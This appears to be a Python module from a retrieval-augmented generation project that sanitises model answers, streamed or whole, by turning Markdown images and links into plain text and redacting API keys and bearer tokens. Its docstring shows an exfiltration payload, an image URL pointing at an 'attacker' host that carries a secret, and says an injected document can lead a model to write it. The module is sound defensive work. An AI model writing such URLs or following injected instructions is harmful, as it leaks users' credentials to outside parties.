"""What a generated answer may carry to the reader: no fetchable image, no live link, no credential.

A model can be told by a document (or by nothing at all) to write
``![x](http://attacker/?d=<secret>)``: a Markdown renderer that shows the
answer would fetch that URL. Images are written as their alt text and links
as plain text with their address in parentheses, so no renderer fetches
anything and a reader still sees where a link pointed. Credentials the model
repeats (the configured keys, ``sk-...``, ``Bearer ...``) are redacted.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from selfcrag.llm.secrets import redact, secret_values
from selfcrag.llm.think import ThinkFilter

# ![alt](url "title") and ![alt][ref]: an image a renderer would fetch.
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
# <img src=...>, in any case, closed or not.
_HTML_IMAGE = re.compile(r"<img\b[^>]*>?", re.IGNORECASE)
# [text](url "title"): a link; kept as text with its address.
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)\n]*[\"'])?\s*\)")
# [ref]: url, a reference definition that would give [text][ref] or ![alt][ref] its target. Indented by spaces or
# tabs only: a newline before it is not part of it (else the result depends on where a streamed piece began).
_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)


def plain_links(text: str) -> str:
    """Write the Markdown images and links of a generated answer as plain text.

    Args:
        text: The answer.

    Returns:
        The answer with ``![alt](url)`` as ``(image: alt)``, ``[text](url)`` as
        ``text (url)``, ``<img>`` tags and reference definitions removed.
    """
    text = _IMAGE.sub(lambda m: f"(image: {m.group(1).strip()})" if m.group(1).strip() else "(image)", text)
    text = _HTML_IMAGE.sub("(image)", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})" if m.group(2) else m.group(1), text)
    return _REFERENCE.sub("", text)


def checked_answer(text: str) -> str:
    """Make a generated answer safe to show and to store: plain links, no credentials.

    Args:
        text: The model's answer, without reasoning.

    Returns:
        The answer to use.
    """
    # Keys go first, so that none is kept inside a link; the marker holds no brackets, so it never makes one.
    return plain_links(redact(text))


# A character a credential is written with (keys, tokens), and a run of them ending a text: a piece may end inside one.
_CREDENTIAL_CHAR = re.compile(r"[A-Za-z0-9._~+/=\-]")
_CREDENTIAL_CHARS = re.compile(_CREDENTIAL_CHAR.pattern + r"*\Z")
# A "Bearer" whose token has not arrived yet.
_BEARER_AT_END = re.compile(r"(?i:bearer)\s*\Z")
# A bracket construct that is over: [text] followed by anything but ( or [, [text](...) or [text][ref].
_CLOSED_BRACKET = re.compile(r"\[[^\]\n]*\](?:[^(\[\n]|\([^)\n]*\)|\[[^\]\n]*\])")
# An image that is over: ![alt], then (after any white space) its (url) or [ref], or something that starts neither.
_CLOSED_IMAGE = re.compile(r"!\[[^\]\n]*\](?:\s*(?:\([^)\n]*\)|\[[^\]\n]*\])|\s*[^\s(\[])")
# An image's ![alt] followed by nothing but white space so far.
_IMAGE_BEFORE_SPACE = re.compile(r"!\[[^\]\n]*\]\s*\Z")
# A tag (<img ...) still open at the end.
_OPEN_TAG = re.compile(r"<(?:[A-Za-z/][^>]*)?\Z")
# A line that may be a reference definition ([ref]: url), which the check removes whole: its indent may be all so far.
_REFERENCE_START = re.compile(r"[ \t]{0,3}(?:\[|\Z)")
# A reference definition whose address has not arrived: it may come on a later line ([ref]:\n  url).
_OPEN_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:\s*\Z", re.MULTILINE)


class CheckedStream:
    """A reply arriving in pieces, shown only as far as the final answer's checks already apply to it.

    A streamed token reaches a person before the reply is complete, so the
    checks of :func:`checked_answer` run on it as it arrives: reasoning blocks
    are dropped, and text that could still become an image, a link, a
    reference definition or a credential (a configured key, ``sk-...``,
    ``Bearer ...``) is held back until the next pieces settle it, then shown
    through the same check. Nothing is shown beyond ``limit`` characters, the
    size a usable reply may have.

    Args:
        check: The check each settled stretch passes through (default :func:`checked_answer`; a node may add its own,
            such as dropping citation markers that point at no source).
        limit: Characters of reply (without reasoning) shown at most.
    """

    def __init__(self, check: Callable[[str], str] = checked_answer, *, limit: int) -> None:
        self._check = check
        self._limit = limit
        self._think = ThinkFilter()
        self._pending = ""
        self._before = ""  # the last characters shown: the context the next stretch is checked in
        self.received = 0

    @property
    def over_limit(self) -> bool:
        """True once the reply has grown past the limit: nothing more is shown, and the reply cannot be used."""
        return self.received > self._limit

    def feed(self, piece: str) -> str:
        """Take the next piece of the reply.

        Args:
            piece: The new text, as the model sent it.

        Returns:
            Checked text that can be shown now (possibly empty).
        """
        visible = self._think.feed(piece)
        self.received += len(visible)
        if self.over_limit:
            self._pending = ""
            return ""
        self._pending += visible
        settled = _settled_length(self._pending)
        shown, self._pending = self._pending[:settled], self._pending[settled:]
        return self._checked(shown)

    def flush(self) -> str:
        """Show what was held back, once the reply is complete.

        Returns:
            The checked rest (empty past the limit).
        """
        held = self._think.flush()
        self.received += len(held)
        rest, self._pending = self._pending + held, ""
        return self._checked(rest) if not self.over_limit else ""

    def _checked(self, stretch: str) -> str:
        """Check a settled stretch where it stands: after the characters shown before it.

        Checked alone, a stretch that starts inside a line would look like the start of one (a ``[ref]: url``
        line, indented by up to three spaces, is removed only there): four characters before it tell.
        """
        if not stretch:
            return ""
        before, self._before = self._before, (self._before + stretch)[-4:]
        if before:
            checked = self._check(before + stretch)
            if checked.startswith(before):
                return checked[len(before) :]
        return self._check(stretch)


def _settled_length(text: str) -> int:
    """How much of a reply's text no later piece can change the check of.

    Args:
        text: The reply's text not shown yet.

    Returns:
        The length of its start that can be checked and shown now.
    """
    end = len(text) - len(_CREDENTIAL_CHARS.search(text).group())  # type: ignore[union-attr]
    if text[:end].endswith("!"):  # an image's "![" may be on its way
        end -= 1
    line_start = text.rfind("\n", 0, end) + 1
    if _REFERENCE_START.match(text, line_start):
        end = line_start
    if opened := _OPEN_REFERENCE.search(text, 0, line_start):
        end = line_start = opened.start()
    # Brackets are looked at on the last line, and from an image on an earlier line that nothing but white space
    # has followed yet: its (url) or [ref] may still come.
    scan_from = line_start
    if pending := _IMAGE_BEFORE_SPACE.search(text, 0, line_start):
        scan_from = pending.start()
    past = 0  # brackets before this belong to an image already settled
    for opening in (m.start() for m in re.finditer(r"\[", text[scan_from:end])):
        at = scan_from + opening
        if at < past:
            continue
        if at > 0 and text[at - 1] == "!":
            image = _CLOSED_IMAGE.match(text, at - 1)
            if image is None or image.end() > end:  # open, or over only past what can be shown now
                end = at - 1
                break
            past = image.end()
        elif not (bracket := _CLOSED_BRACKET.match(text, at)) or bracket.end() > end:
            end = at
            break
    if tag := _OPEN_TAG.search(text, 0, end):  # the first tag still open: a later "<" is inside it
        end = tag.start()
    secrets = secret_values()
    moved = True
    while moved:
        moved = False
        if bearer := _BEARER_AT_END.search(text, 0, end):
            end, moved = bearer.start(), True
        for secret in secrets:
            for size in range(min(len(secret) - 1, end), 0, -1):
                if text[end - size : end] == secret[:size]:
                    end, moved = end - size, True
                    break
        # Never inside a word a credential is written with: a key is redacted whole, whatever it runs into.
        word = _CREDENTIAL_CHARS.search(text, 0, end).start()  # type: ignore[union-attr]
        if word < end < len(text) and _CREDENTIAL_CHAR.match(text, end):
            end, moved = word, True
        # Never inside a line that may be a reference definition: the check removes such a line whole.
        line = text.rfind("\n", 0, end) + 1
        if line < end < len(text) and text[end] != "\n" and _REFERENCE_START.match(text, line):
            end, moved = line, True
    return end
